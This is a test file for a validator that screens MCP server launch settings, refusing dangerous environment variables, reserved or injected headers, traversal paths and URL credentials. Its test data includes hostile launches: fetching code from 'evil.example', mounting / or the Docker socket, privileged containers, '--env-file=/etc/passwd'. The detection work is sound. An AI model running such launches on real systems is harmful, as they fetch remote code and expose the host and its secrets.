import { describe, expect, test } from "vitest";
import { LIMITS } from "#contract/limits.ts";
import type { Launch } from "#contract/mcp/servers.ts";
import { launchIssues } from "./launch-rules.ts";
import { launchWarnings, needsOwner } from "./launch-warnings.ts";
import { fetchedCode } from "./runners.ts";
import { maskLaunch, secretInArgument, summariseLaunch, unmaskLaunch } from "./launch.ts";

const stdio = (change: Partial<Extract<Launch, { transport: "stdio" }>> = {}): Launch => ({
  transport: "stdio",
  command: "node",
  args: ["server.js"],
  env: {},
  ...change,
});
const http = (headers: Record<string, string>, url = "https://example.com/mcp"): Extract<Launch, { transport: "http" }> => ({
  transport: "http",
  url,
  headers,
});
const codes = (launch: Launch): (string | undefined)[] => launchIssues(launch).map(({ code }) => code);

describe("what no approval can allow", () => {
  test.each(
    `PATH Path HOME IFS LD_PRELOAD LD_LIBRARY_PATH DYLD_INSERT_LIBRARIES BASH_ENV ENV BASH_FUNC_ls NODE_OPTIONS node_options
    NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED PYTHONSTARTUP PYTHONPATH PERL5OPT RUBYOPT JAVA_TOOL_OPTIONS GIT_SSH_COMMAND
    npm_config_node_options HTTP_PROXY https_proxy ALL_PROXY SSL_CERT_FILE AUTERITY_INSTANCE UV_INDEX_URL PIP_INDEX_URL`.split(/\s+/),
  )("the variable %s", (name) => {
    expect(launchIssues(stdio({ env: { [name]: "x" } }))).toMatchObject([{ path: `launch.env.${name}`, code: "env_refused" }]);
    expect(codes(stdio({ command: "/usr/bin/env", args: [`${name}=x`, "node", "server.js"] }))).toEqual(["env_refused"]);
  });
  test.each("GITHUB_TOKEN API_KEY PATHS HOME_PAGE PROXY_MODE NODE_ENV LOG_LEVEL TZ MEMORY_FILE_PATH LDAP_URL".split(" "))(
    "but not the variable %s",
    (name) => expect(codes(stdio({ env: { [name]: "x" } }))).toEqual([]),
  );

  test.each(
    "Host host X-Forwarded-Host X-Forwarded-For Content-Length Content-Type Transfer-Encoding Connection Mcp-Session-Id Mcp-Protocol-Version Proxy-Authorization Upgrade".split(
      " ",
    ),
  )("the header %s", (name) => expect(codes(http({ [name]: "x" }))).toEqual(["header_reserved"]));
  test.each("Authorization X-API-Key X-MCP-Toolsets Cookie User-Agent".split(" "))("but not the header %s", (name) =>
    expect(codes(http({ [name]: "x" }))).toEqual([]),
  );
  test("a header of two lines, an address with a password", () => {
    expect(codes(http({ "X-Key": "a\r\nHost: internal" }))).toEqual(["header_invalid"]);
    expect(codes(http({}, "https://user:secret@example.com/mcp"))).toEqual(["url_credentials"]);
  });
  test.each([
    [["url_credentials"], "https://example.com/mcp?apiKey=q9Zr7Lw2Xc5V"],
    [["url_credentials"], `https://example.com/mcp?a=1&anything=tvly-${"a1B2".repeat(6)}`],
    [["url_credentials"], "https://example.com/mcp?k=secret:mine"],
    [["query_repeated"], "https://example.com/mcp?key=1", { key: "secret:mine" }],
    [[], "https://example.com/mcp?apiKey=YOUR_KEY&mode=q9Zr7Lw2Xc5V", { key: "secret:mine", token: "q9Zr7Lw2Xc5V" }],
  ])("%j: parameters of %s", (expected, url, query?: Record<string, string>) => {
    const issues = launchIssues({ transport: "http", url, headers: {}, ...(query && { query }) });
    expect(issues.map(({ code }) => code)).toEqual(expected);
    expect(JSON.stringify(issues)).not.toMatch(/q9Zr|tvly/);
  });

  test.each([
    "/",
    "//",
    "../../",
    "relative",
    "/data/../etc",
    "/data/./../etc",
    "/data/%2e%2e/etc",
    "/data\\..\\etc",
    "/etc",
    "/etc/ssh/",
    "/proc/self",
    "/data\0",
  ])("the folder %j", (cwd) => expect(codes(stdio({ cwd }))).toEqual(["cwd_refused"]));
  test.each(["/data", "/srv/my files", "/etcetera", "/home/ada/..hidden"])("but not the folder %j", (cwd) =>
    expect(codes(stdio({ cwd }))).toEqual([]),
  );

  test("NUL, invisible characters in the command, too much", () => {
    expect(codes(stdio({ args: ["a\0b"] }))).toEqual(["nul"]);
    expect(codes(stdio({ env: { A: "a\0b" } }))).toEqual(["nul"]);
    expect(codes(stdio({ command: "no\u202ede" }))).toEqual(["command_invisible"]);
    const args = (bytes: number) => [...Array.from({ length: 31 }, () => "x".repeat(4_096)), "y".repeat(bytes)];
    const rest = LIMITS.launchBytes - Buffer.byteLength(JSON.stringify(stdio({ args: args(0) })));
    expect(codes(stdio({ args: args(rest) }))).toEqual([]);
    expect(codes(stdio({ args: args(rest + 1) }))).toEqual(["launch_too_large"]);
  });
});

describe("what an approver is warned of", () => {
  test.each<[string, string, string[]]>([
    ["inline_code", "bash", ["-c", "touch x"]],
    ["inline_code", "/bin/sh", ["-ec", "touch x"]],
    ["inline_code", "node", ["-e", "1"]],
    ["inline_code", "node", ["--eval=1"]],
    ["inline_code", "node", ["-pe", "1"]],
    ["inline_code", "node", ["--import", "data:text/javascript,1", "x.js"]],
    ["inline_code", "node", ["-r", "./x.js", "y.js"]],
    ["inline_code", "node", ["--env-file=/etc/passwd", "y.js"]],
    ["debugger_open", "node", ["--inspect=0.0.0.0", "y.js"]],
    ["inline_code", "python3", ["-c", "1"]],
    ["inline_code", "python3.13", ["-m", "http.server"]],
    ["inline_code", "bun", ["-e", "1"]],
    ["inline_code", "deno", ["run", "-A", "https://evil.example/x.ts"]],
    ["remote_code", "deno", ["run", "https://evil.example/x.ts"]],
    ["remote_code", "uvx", ["--from", "git+https://evil.example", "x"]],
    ["remote_code", "npx", ["-y", "github:evil/x"]],
    ["host_access", "docker", ["run", "-v", "/:/h", "alpine"]],
    ["host_access", "docker", ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/s", "x"]],
    ["host_access", "docker", ["run", "-v/:/h", "alpine"]],
    ["host_access", "docker", ["run", "-itv", "/:/h", "alpine"]],
    ["host_access", "docker", ["run", "--volume=/:/h", "alpine"]],
    ["host_access", "docker", ["run", "--mount", "type=bind,source=/etc,target=/x", "alpine"]],
    ["host_access", "docker", ["run", "--privileged", "alpine"]],
    ["host_access", "podman", ["run", "--network=host", "alpine"]],
  ])("%s: %s %j, and only an owner's registration approves it", (code, command, args) => {
    const launch = stdio({ command, args });
    expect(launchWarnings(launch).map((one) => one.code)).toContain(code);
    expect(needsOwner(launch)).toBe(true);
  });
  test.each<[string[], string, string[]]>([
    [["unpinned_package"], "npx", ["-y", "@scope/server@latest", "-c"].slice(0, 2)],
    [["unpinned_package"], "uvx", ["mcp-server-fetch"]],
    [["unpinned_package"], "docker", ["run", "-i", "--rm", "mcp/fetch:1.2"]],
    [["secret_in_arguments", "unpinned_package"], "docker", ["run", "-e", "TOKEN=x", "-e", "OTHER", "mcp/fetch"]],
    [["host_folder", "unpinned_package"], "docker", ["run", "-v", "/srv/data:/data", "-v", "named:/x", "mcp/files"]],
    [["starts_another"], "sudo", ["node", "x.js"]],
    [["secret_in_arguments"], "node", ["x.js", "--api-key", "q9Zr7Lw2Xc5V"]],
    [["secret_in_arguments"], "node", ["x.js", "--header", "Authorization: Bearer q9Zr7Lw2Xc5V"]],
    [[], "node", ["x.js", "--api-key=secret:my_key", "secret:another_key", "--token", "secret:third_token"]],
    [[], "npx", ["-y", "@scope/server@1.2.3", "/data"]],
    [[], "uvx", ["mcp-server-fetch==2026.10.24"]],
    [[], "docker", ["run", "-i", `mcp/fetch@sha256:${"0".repeat(64)}`]],
    [[], "node", ["server.js", "--port", "1"]],
    [[], "python3", ["-m", "mcp_server_git"]],
  ])("%j: %s %j, and nobody is asked twice", (expected, command, args) => {
    const launch = stdio({ command, args });
    expect(
      launchWarnings(launch)
        .map(({ code }) => code)
        .sort(),
    ).toEqual(expected);
    expect(needsOwner(launch)).toBe(false);
  });
  test("http that others can read", () => {
    expect(launchWarnings(http({}, "http://tools.example/mcp"))).toMatchObject([{ code: "plain_http" }]);
    expect(launchWarnings(http({}, "http://localhost:3000/mcp"))).toEqual([]);
  });
  test("a credential in the path, which has no other place", () => {
    const address = `https://tools.example/s/sk-${"a1B2".repeat(6)}/mcp`;
    expect(launchIssues(http({}, address))).toEqual([]);
    expect(launchWarnings(http({}, address))).toMatchObject([{ code: "secret_in_address" }]);
  });
});

test("the audit trail has a launch without its credentials", () => {
  const launch = stdio({ args: ["x.js", "--api-key=q9Zr7Lw2Xc5V", "--mode", "fast", "--token", "secret:third_token"], env: { KEY: "k" } });
  const argv = ["node", "x.js", "********", "--mode", "fast", "--token", "secret:third_token"];
  expect(summariseLaunch(launch)).toEqual({ argv, env: ["KEY"], cwd: "" });
});

test("what a package runner fetches is told from its options", () => {
  expect(fetchedCode("npx", ["-y", "-p", "@a/b@1.0.0", "b", "--flag"])).toEqual({ kind: "npm", spec: "@a/b@1.0.0", isPinned: true });
  expect(fetchedCode("uvx", ["--python", "3.12", "mcp-server-git", "--repository", "/x"])).toMatchObject({
    kind: "pypi",
    spec: "mcp-server-git",
  });
  expect(fetchedCode("docker", ["run", "-i", "--rm", "-e", "A", "--name", "x", "ghcr.io/github/github-mcp-server", "stdio"])).toMatchObject(
    {
      kind: "docker",
      spec: "ghcr.io/github/github-mcp-server",
    },
  );
  expect(fetchedCode("npm.cmd", ["exec", "--", "thing"])).toMatchObject({ spec: "thing" });
  expect(fetchedCode("node", ["x.js"])).toBeUndefined();
  expect(fetchedCode("docker", ["ps"])).toBeUndefined();
});

test("an argument may name a secret, whole or behind an option; a mask that comes back means what is stored", () => {
  expect(secretInArgument("secret:db_url")).toEqual({ before: "", name: "db_url" });
  expect(secretInArgument("--token=secret:gh")).toEqual({ before: "--token=", name: "gh" });
  expect(secretInArgument("say secret:gh")).toBeUndefined();
  const stored = stdio({ env: { API_KEY: "k", MODE: "fast" } });
  const shown = maskLaunch(stored);
  expect(unmaskLaunch(shown, stored)).toEqual(stored);
  expect(() => unmaskLaunch(stdio({ env: { OTHER: "********" } }), stored)).toThrow(expect.objectContaining({ code: "request_invalid" }));
  const called: Launch = { ...http({ key: "h" }), query: { key: "q", k: `tvly-${"a1B2".repeat(6)}`, t: "secret:t", mode: "fast" } };
  expect(maskLaunch(called)).toMatchObject({
    headers: { key: "********" },
    query: { key: "********", k: "********", t: "secret:t", mode: "fast" },
  });
  expect(unmaskLaunch(maskLaunch(called), called)).toEqual(called);
});
